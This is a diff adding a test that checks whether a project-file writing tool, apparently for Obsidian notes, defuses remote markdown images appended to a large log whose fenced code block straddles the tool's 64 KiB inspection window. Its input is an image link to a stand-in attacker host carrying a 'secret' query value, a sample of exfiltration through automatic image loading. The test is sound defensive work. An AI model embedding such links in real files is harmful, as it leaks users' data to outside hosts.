@@ -123,3 +123,25 @@ describe('issue #13: writes to a big project file', () => {
     expect(await hashTree(t.root)).toBe(before);
   });
 });
+
+describe('F30: a streamed append is defused also where the tail cannot see the block it is in', () => {
+  it('a code fence opened before the 64 KiB tail and closed inside it: the remote image after it is defused', async () => {
+    t = await sampleSession(MEETINGS.functional);
+    const abs = path.join(t.root, FOLDER, 'log.md');
+    // A big log whose last fenced block is longer than the tail: the tail starts inside the block
+    // and reads its closing fence as an opening one.
+    const code = Array.from({ length: 4000 }, (_, i) => `log line ${i + 1}: aaaa bbbb cccc dddd`).join('\n');
+    const before = `${lines(STREAMED_APPEND_MIN_BYTES)}\n\n\`\`\`\n${code}\n\`\`\`\n`;
+    await writeFile(abs, before);
+    const out = await runTool(t.session, 'write_projectfile', {
+      project: 'remote-control',
+      path: 'log.md',
+      content: '![x](https://attacker.example/p.png?q=secret)\n',
+    });
+    expect(out).toMatch(/defused 1 item Obsidian would load from the web/);
+    const after = await readFile(abs, 'utf8');
+    expect(after.startsWith(before)).toBe(true);
+    // (in the file's own line breaks)
+    expect(after.slice(before.length).trimEnd()).toBe('[x](https://attacker.example/p.png?q=secret)');
+  });
+});
